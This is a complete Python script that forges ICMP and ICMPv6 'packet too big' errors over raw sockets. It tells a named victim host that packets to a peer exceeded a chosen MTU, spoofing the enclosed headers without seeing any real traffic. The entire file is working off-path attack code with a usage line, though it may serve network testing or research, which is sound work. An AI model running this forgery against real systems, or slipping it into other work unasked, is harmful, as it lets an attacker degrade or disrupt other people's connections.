#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Send a forged ICMP error, which says that a packet to a peer was too big.

usage: forged_mtu.py VICTIM PEER MTU

The forger has seen no packet between the two. The error encloses an echo reply. For IPv6, another
one follows, which encloses a UDP packet with ports that nobody uses.
"""
import socket
import struct
import sys

import roce


def error4(victim, peer, mtu):
    enclosed = struct.pack(">BBHHHBBH4s4sBBHHH", 0x45, 0, 1500, 1, 0x4000, 64, socket.IPPROTO_ICMP, 0,
                           socket.inet_aton(victim), socket.inet_aton(peer), 0, 0, 0, 1, 1)
    message = struct.pack(">BBHHH", 3, 4, 0, 0, mtu) + enclosed
    return message[:2] + struct.pack(">H", roce.checksum(message)) + message[4:]


def error6(victim, peer, mtu, protocol, packet):
    """Return: the message; the kernel computes the checksum."""
    enclosed = struct.pack(">IHBB16s16s", 6 << 28, 2000, protocol, 64,
                           socket.inet_pton(socket.AF_INET6, victim),
                           socket.inet_pton(socket.AF_INET6, peer)) + packet
    return struct.pack(">BBHI", 2, 0, 0, mtu) + enclosed


def main():
    victim, peer, mtu = sys.argv[1], sys.argv[2], int(sys.argv[3])
    if ":" in victim:
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        echo, udp = struct.pack(">BBHHH", 129, 0, 0, 1, 1), struct.pack(">HHHH", 1, 2, 2000, 1)
        for protocol, packet in (socket.IPPROTO_ICMPV6, echo), (socket.IPPROTO_UDP, udp):
            s.sendto(error6(victim, peer, mtu, protocol, packet), (victim, 0))
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        s.sendto(error4(victim, peer, mtu), (victim, 0))


main()
